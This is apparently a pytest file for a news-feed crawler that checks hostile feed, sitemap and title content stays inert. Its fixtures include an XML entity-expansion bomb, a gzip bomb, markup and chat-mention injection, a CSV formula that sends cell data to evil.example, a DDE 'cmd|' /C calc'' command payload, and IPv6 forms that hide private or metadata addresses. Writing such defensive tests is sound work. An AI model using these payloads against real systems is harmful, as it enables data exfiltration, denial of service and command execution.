"""What strangers write (feeds, sitemaps, titles, links, DNS answers) stays data: it is
never expanded, inflated without bound, rendered as markup, sent as markup, run as a
formula, or taken for a public address when it hides a private one.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zlib
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner

from crawler.cli import cli, export
from crawler.collect.fetch import is_public_address
from crawler.process.dedup import canonical_url
from tests.conftest import Project
from tests.feeds import Item, rss
from tests.newssite import Story, news_sitemap, publish
from tests.servers import Page, Receiver, Site


def comment_hidden_entities(site: Site) -> bytes:
    """A billion-laughs-lite: 2,000 uses of a 10 KB entity, declared after a 70 KB comment."""
    return (b'<?xml version="1.0"?>\n<!-- ' + b"c" * 70_000 + b" -->\n"
            b'<!DOCTYPE rss [\n<!ENTITY big "' + b"A" * 10_000 + b'">\n]>\n'
            b'<rss version="2.0"><channel><title>t</title><item><title>Atta Mohammad Noor '
            + b"&big;" * 2000 + b"</title><link>" + site.url("/a/big").encode()
            + b"</link></item></channel></rss>")


@pytest.mark.parametrize("where", ["after a long comment", "in a malformed document",
                                   "in UTF-7"])
def test_entity_declarations_are_refused_wherever_they_stand(
        project: Project, site: Site, receiver: Receiver, where: str) -> None:
    body = comment_hidden_entities(site)
    if where == "in a malformed document":  # expat stops early; feedparser reads on
        body = body.replace(b"<!-- ", b"<!-- -- ", 1)
    if where == "in UTF-7":  # only feedparser's re-decoding shows the declaration
        body = body.replace(b'version="1.0"?>', b'version="1.0" encoding="utf-7"?>', 1)
        body = body.replace(b"<!ENTITY", b"+ADwAIQ-ENTITY")
    site.pages["/feed"] = Page(body, content_type="application/rss+xml")
    project.hook(receiver.url("/hook"))
    project.sources = [{"name": "laughs", "feed": site.url("/feed")}]
    project.once()
    store = project.store()
    try:
        [row] = store.sources()
        assert "declares XML entities" in (row["last_error"] or "")
        assert store.archive(datetime(2000, 1, 1, tzinfo=UTC)) == []
    finally:
        store.close()


GZIP_BOMB_SPACES = 256 * 2**20  # inflated; the file itself is a quarter megabyte

SITEMAP_CRAWL = """
import asyncio, json, resource, sys
from crawler.collect import crawl
report = asyncio.run(crawl.run(json.loads(sys.argv[1]), 60, 2**20))
print(json.dumps({"pages": [p.url for p in report.pages],
                  "errors": [e.reason for e in report.errors],
                  "peak_kib": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
"""


def test_a_gzip_sitemap_is_inflated_no_further_than_the_size_cap(site: Site) -> None:
    """A 1 MiB cap holds for the inflated sitemap too: the spider's peak memory stays
    far below the 256 MiB the bomb would become, and the entries before the cut are read."""
    publish(site, Story("/news/1", "Talks in Mazar", "Atta Mohammad Noor spoke."))
    head = news_sitemap([(site.url("/news/1"), "Talks in Mazar", datetime.now(UTC))])
    head = head.replace(b"</urlset>", b"")
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = compressor.compress(head)
    spaces = b" " * 2**20
    for _ in range(GZIP_BOMB_SPACES // len(spaces)):
        body += compressor.compress(spaces)
    body += compressor.compress(b"</urlset>") + compressor.flush()
    site.pages["/sitemap.xml.gz"] = Page(body, content_type="application/x-gzip")
    spec = {"kind": "sitemap", "name": "x", "sitemap": site.url("/sitemap.xml.gz"),
            "entries": [site.url("/sitemap.xml.gz")], "follow": [], "max_depth": 1, "max_pages": 10,
            "max_age": 86400, "now": datetime.now(UTC).isoformat(), "user_agent": "t/1",
            "timeout": 30, "max_bytes": 2**20, "delay": 0, "retries": 0,
            "robots_txt": False, "allow_private_networks": True, "known": []}
    result = subprocess.run([sys.executable, "-c", SITEMAP_CRAWL, json.dumps(spec)],
                            capture_output=True, text=True, timeout=120, check=True)
    report = json.loads(result.stdout.splitlines()[-1])
    assert report["pages"] == [site.url("/news/1")], report["errors"]
    print(f"\npeak resident memory of the crawl: {report['peak_kib'] / 1024:.0f} MiB")
    assert report["peak_kib"] < 300 * 1024


MARKUP = "[/bold] [link=http://evil.example]x[/link] [red]"


def test_remote_text_is_shown_as_text_not_rich_markup(
        project: Project, site: Site, receiver: Receiver) -> None:
    site.pages["/feed"] = Page(rss([Item(f"Atta Mohammad Noor {MARKUP}", site.url("/a/1"),
                                         f"Atta Mohammad Noor {MARKUP}", "g1",
                                         datetime.now(UTC))]))
    project.hook(receiver.url("/hook"))
    project.sources = [{"name": "markup", "feed": site.url("/feed")},
                       {"name": "broken", "feed": site.url("/missing/[/bold]")}]
    config_dir = str(project.write())
    runner = CliRunner()
    for args in (["once"], ["status"], ["sources", "list"], ["matches"], ["stories"],
                 ["search", "Noor"], ["alerts"]):
        result = runner.invoke(cli, ["--config", config_dir, *args],
                               env={"COLUMNS": "400"})
        assert result.exception is None or isinstance(result.exception, SystemExit), (
            args, result.output, result.exception)
        if args[0] in ("matches", "stories", "search"):
            assert MARKUP in result.output, (args, result.output)
        if args[0] in ("once", "status", "sources"):
            assert "/missing/[/bold]" in result.output, (args, result.output)


HOSTILE_CHAT = "@channel [click](http://evil.example) <!here> Atta Mohammad Noor"


def test_chat_messages_carry_feed_text_without_mentions_or_links(
        project: Project, site: Site, receiver: Receiver) -> None:
    """Mattermost reads its messages as Markdown: feed text must not ping a channel or
    make a link of its own; the words still read the same."""
    site.pages["/feed"] = Page(rss([Item(HOSTILE_CHAT, site.url("/a/1"), HOSTILE_CHAT, "g1",
                                         datetime.now(UTC))]))
    host_port = receiver.url("").removeprefix("http://")
    project.settings["channels"] = {"chat": {
        "type": "apprise", "urls": [f"mmost://{host_port}/abcdefghij0123456789"],
        "timeout": "5s"}}
    project.watchlists = [{**project.watchlists[0], "channels": ["chat"]}]
    project.sources = [{"name": "chatty", "feed": site.url("/feed")}]
    assert project.once().delivery.delivered == 1
    [sent] = receiver.payloads()
    text = json.dumps(sent, ensure_ascii=False)
    assert "Atta Mohammad Noor" in text and site.url("/a/1") in text
    assert "@channel" not in text and "<!here>" not in text, text
    assert "](http://evil.example)" not in text, text
    assert "@channel [click](http://evil.example) Atta" in text.replace("\u200b", "")


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_csv_export_writes_no_formula(
        project: Project, site: Site, receiver: Receiver, lead: str) -> None:
    title = f'{lead}HYPERLINK("http://evil.example/?"&A1,"Atta Mohammad Noor")'
    site.pages["/feed"] = Page(rss([Item(title, site.url("/a/1"), "", "g1",
                                         datetime.now(UTC))]))
    project.hook(receiver.url("/hook"))
    project.sources = [{"name": lead + "cmd|' /C calc'!A0", "feed": site.url("/feed")}]
    config_dir = str(project.write())
    runner = CliRunner()
    assert runner.invoke(cli, ["--config", config_dir, "once"]).exit_code == 0
    result = runner.invoke(cli, ["--config", config_dir, "export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output.removeprefix("\ufeff"))))
    assert rows, result.output
    for row in rows:
        assert row["title"] == "'" + title, row
        assert row["source"] == "'" + lead + "cmd|' /C calc'!A0", row
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_csv_cells_starting_with_tab_or_cr_are_neutralised_too() -> None:
    """Feed text and source names reach the store stripped; the writer does not rely on it."""
    article = {c: f"\t=1+1 {c}" for c in export.ARTICLE_COLUMNS}
    match = {c: f"\r=1+1 {c}" for c in export.MATCH_COLUMNS} | {"start": -1, "end": 3}
    out = io.StringIO()
    export.write(out, "csv", [{**article, "outlets": 2, "matched_at": "x",
                               "matches": [match]}])
    [row] = list(csv.DictReader(io.StringIO(out.getvalue().removeprefix("\ufeff"))))
    assert row["title"] == "'\t=1+1 title" and row["snippet"] == "'\r=1+1 snippet"
    assert (row["start"], row["end"], row["outlets"]) == ("-1", "3", "2"), "numbers stay"


@pytest.mark.parametrize(("address", "public"), [
    ("64:ff9b::7f00:1", False),        # NAT64 of 127.0.0.1
    ("64:ff9b::a00:1", False),         # NAT64 of 10.0.0.1
    ("64:ff9b::a9fe:a9fe", False),     # NAT64 of 169.254.169.254 (cloud metadata)
    ("2002:7f00:1::", False),          # 6to4 of 127.0.0.1
    ("2002:c0a8:101::1", False),       # 6to4 of 192.168.1.1
    ("::7f00:1", False),               # IPv4-compatible 127.0.0.1
    ("::a00:1", False),                # IPv4-compatible 10.0.0.1
    ("::ffff:127.0.0.1", False),       # IPv4-mapped (already refused)
    ("::1", False), ("::", False),
    ("64:ff9b::808:808", True),        # NAT64 of 8.8.8.8
    ("2002:808:808::1", True),         # 6to4 of 8.8.8.8
    ("2001:4860:4860::8888", True), ("8.8.8.8", True),
])
def test_ipv6_forms_are_judged_by_the_ipv4_address_they_embed(address: str,
                                                              public: bool) -> None:
    assert is_public_address(address) is public


@pytest.mark.parametrize(("url", "canonical"), [
    ("http://[2001:DB8::1]:8080/x#f", "http://[2001:db8::1]:8080/x"),
    ("http://[::1]/", "http://[::1]/"),
    ("http://a.example:99999/p", "http://a.example:99999/p"),  # kept as written
    ("http://[::1", "http://[::1"),
])
def test_canonical_urls_keep_ipv6_literals_and_survive_bad_ports(url: str,
                                                                 canonical: str) -> None:
    """Found by tests/test_fuzz.py: the brackets were dropped, and a bad port raised."""
    assert canonical_url(url) == canonical
